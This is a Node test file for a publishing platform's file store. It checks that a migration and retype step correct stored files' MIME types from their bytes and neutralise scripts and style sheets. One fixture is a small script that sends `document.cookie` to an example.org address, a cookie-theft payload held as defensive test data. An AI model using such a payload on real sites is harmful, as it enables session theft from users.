import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Migrator, sql } from 'kysely';
import { testDatabases } from '../../test/support/databases.ts';
import { migrateToLatest, type DatabaseHandle } from '../db/index.ts';
import { migrationProvider } from '../db/migrations/index.ts';
import { createFileStore, retypeStoredFiles, type FileStore } from './index.ts';

/**
 * Files stored before types were read from bytes: migration 0015 marks them, and the start-up step
 * (and `revista files retype`) reads each once and records what its bytes show.
 */

const PDF = fs.readFileSync(path.resolve('test/fixtures/ojs/sm-1786.pdf'));

for (const database of await testDatabases()) {
  describe(`reading stored files' types on ${database.name}`, () => {
    let handle: DatabaseHandle;
    let files: FileStore;
    let root: string;
    const store = async (bytes: Buffer, mimeType: string, name: string) => {
      const stored = await files.put(bytes);
      const row = await handle.db.insertInto('files').values({ storage_key: stored.key, mime_type: mimeType, size_bytes: stored.sizeBytes, sha256: stored.sha256, original_name: name }).returning('id').executeTakeFirstOrThrow();
      return { id: row.id, key: stored.key };
    };
    const typeOf = async (id: number) => (await handle.db.selectFrom('files').select(['mime_type', 'type_checked_at']).where('id', '=', id).executeTakeFirstOrThrow());

    before(async () => {
      handle = await database.open();
      root = fs.mkdtempSync(path.join(os.tmpdir(), 'revista-retype-'));
      files = createFileStore(root);
    });
    after(async () => {
      await handle.close();
      fs.rmSync(root, { recursive: true, force: true });
    });

    it('marks the files stored before migration 0015, reads each once, and leaves what it cannot read', async () => {
      const { rows } = await sql<{ schema: string }>`SELECT current_schema() AS schema`.execute(handle.db);
      const migrator = new Migrator({ db: handle.db, provider: migrationProvider, migrationTableSchema: rows[0]!.schema });
      const down = await migrator.migrateTo('0014_throttle');
      assert.equal(down.error, undefined);

      // As the import stored them before: OJS gave no type, or a wrong one.
      const pdf = await store(PDF, 'application/octet-stream', 'article.pdf');
      const html = await store(Buffer.from('<!DOCTYPE html>\n<html><body>Full text</body></html>\n'), 'application/pdf', 'article.pdf');
      const script = await store(Buffer.from("document.location = 'https://example.org/?' + document.cookie;\n"), 'application/octet-stream', 'tracker.js');
      const css = await store(Buffer.from('body { color: red }\n'), 'text/css', 'style.css');
      const gone = await store(PDF, 'application/octet-stream', 'lost.pdf');
      fs.rmSync(files.pathOf(gone.key));

      assert.deepEqual((await migrateToLatest(handle.db))[0], '0015_file_types');
      for (const row of [pdf, html, script, css, gone]) assert.equal((await typeOf(row.id)).type_checked_at, null, 'stored before: not yet read');
      const fresh = await store(PDF, 'application/pdf', 'new.pdf');
      assert.ok((await typeOf(fresh.id)).type_checked_at instanceof Date, 'stored from now on: typed when stored');

      const report = await retypeStoredFiles(handle.db, files);
      assert.deepEqual(report, { checked: 4, changed: 3, missing: 1, disarmed: 2 });
      assert.equal((await typeOf(pdf.id)).mime_type, 'application/pdf');
      assert.equal((await typeOf(html.id)).mime_type, 'text/html', 'the bytes win over the declared type');
      assert.equal((await typeOf(script.id)).mime_type, 'application/octet-stream', 'never recorded as a script');
      assert.equal((await typeOf(css.id)).mime_type, 'application/octet-stream', 'a style sheet stored by an older version is disarmed');
      assert.equal((await typeOf(gone.id)).mime_type, 'application/octet-stream', 'a missing file is left as it was');
      for (const row of [pdf, html, script, css, gone]) assert.ok((await typeOf(row.id)).type_checked_at instanceof Date);

      assert.deepEqual(await retypeStoredFiles(handle.db, files), { checked: 0, changed: 0, missing: 0, disarmed: 0 }, 'once');

      // --all reads every file again: a type written by hand is put right.
      await handle.db.updateTable('files').set({ mime_type: 'image/png' }).where('id', '=', fresh.id).execute();
      assert.deepEqual(await retypeStoredFiles(handle.db, files, { all: true }), { checked: 5, changed: 1, missing: 1, disarmed: 2 });
      assert.equal((await typeOf(fresh.id)).mime_type, 'application/pdf');
    });
  });
}
